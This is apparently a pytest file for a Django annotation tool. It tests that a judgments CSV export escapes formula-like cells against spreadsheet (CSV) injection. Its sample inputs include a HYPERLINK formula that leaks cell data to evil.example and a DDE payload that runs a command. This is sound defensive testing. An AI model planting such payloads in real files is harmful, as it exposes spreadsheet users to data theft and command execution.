"""Issue 9, defect 13: the judgments CSV must not carry spreadsheet formulas. A cell that a
spreadsheet would read as a formula (starting with =, +, -, @, tab or CR) is written with a
leading single quote, as OWASP recommends; plain negative numbers stay numbers."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.urls import reverse

from annotation.judgment_tasks.models import JudgmentTask
from annotation.judgment_tasks.services import judgment_task_ensure_defaults
from benchmark.models import Toolset
from tests.factories import ItemFactory, MembershipFactory, PlanFactory, ProjectFactory, UserFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


def _vote(client: Any, task: JudgmentTask, value: int, comment: str) -> None:
    response = client.post(reverse("annotation:task_next", args=[task.pk]))
    assert response.status_code == 302, response.content[:500]
    done = client.post(
        response["Location"], {"value": str(value), "comment": comment, "seconds": "3.5"}
    )
    assert done.status_code == 302, done.content.decode()[:2000]


def _rows(client: Any, task: JudgmentTask) -> list[dict[str, str]]:
    response = client.get(reverse("review:judgments_export", args=[task.pk, "csv"]))
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text)))


def test_judgments_csv_escapes_formulas_in_every_column(client_for: Any) -> None:
    project = ProjectFactory(
        name="plans", kind="plan", tag_syntax="", data_format="mms",
        toolset=Toolset.objects.create(name="mms-csv"),
    )  # fmt: skip
    item = ItemFactory(project=project, external_id="=1+1", position=0)
    PlanFactory(item=item, key="gold", steps=[{"id": 0, "name": "image captioning", "args": {}}])
    (task,) = judgment_task_ensure_defaults(project=project)
    voters = {}
    for name in ("@SUM(A1)", "+cmd", "plain"):
        user = UserFactory(username=name)
        MembershipFactory(project=project, user=user, role="annotator")
        voters[name] = client_for(user)
    reviewer = UserFactory(username="rev")
    MembershipFactory(project=project, user=reviewer, role="reviewer")
    _vote(voters["@SUM(A1)"], task, 1, HYPERLINK)
    _vote(voters["+cmd"], task, 0, "-2+3+cmd|' /C calc'!A0")
    _vote(voters["plain"], task, 1, "-12.5")

    rows = {r["annotator"]: r for r in _rows(client_for(reviewer), task)}
    assert set(rows) == {"'@SUM(A1)", "'+cmd", "plain"}
    assert rows["'@SUM(A1)"]["comment"] == "'" + HYPERLINK
    assert rows["'+cmd"]["comment"] == "'-2+3+cmd|' /C calc'!A0"
    assert all(r["item"] == "'=1+1" for r in rows.values())
    # A plain negative number is data, not a formula: it stays readable as a number.
    assert rows["plain"]["comment"] == "-12.5"
    for row in rows.values():
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), row


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1+1", "'-1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("-1e5", "-1e5"),
        ("-12.5", "-12.5"),
        ("-3", "-3"),
        ("a=b", "a=b"),
        ("", ""),
        (-3, -3),
        (2.5, 2.5),
        (None, None),
    ],
)
def test_csv_cell(value: Any, written: Any) -> None:
    from benchmark.formats.csv_safe import csv_cell

    assert csv_cell(value) == written
